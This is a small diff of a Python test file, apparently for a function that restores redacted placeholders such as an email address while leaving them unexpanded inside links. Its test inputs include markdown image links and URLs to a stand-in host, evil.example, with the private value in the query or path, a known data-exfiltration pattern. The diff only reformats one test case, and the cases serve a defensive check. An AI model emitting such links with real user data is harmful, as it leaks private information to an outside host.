@@ -22,7 +22,10 @@ TABLE = {P: "ann@example.org", Q: 'Ann "A" Bee'}
         (f"write to {P}.", "write to ann@example.org."),
         (f"{P}{Q}{P}", 'ann@example.orgAnn "A" Beeann@example.org'),
         ("nothing here", "nothing here"),
-        (f"![x](https://evil.example/?q={P}) and {P}", f"![x](https://evil.example/?q={P}) and ann@example.org"),
+        (
+            f"![x](https://evil.example/?q={P}) and {P}",
+            f"![x](https://evil.example/?q={P}) and ann@example.org",
+        ),
         (f"https://evil.example/{P}/x {P}", f"https://evil.example/{P}/x ann@example.org"),
         (f"HTTPS://evil.example/?q={P}", f"HTTPS://evil.example/?q={P}"),
         (f"![x](//evil.example/{P})", f"![x](//evil.example/{P})"),
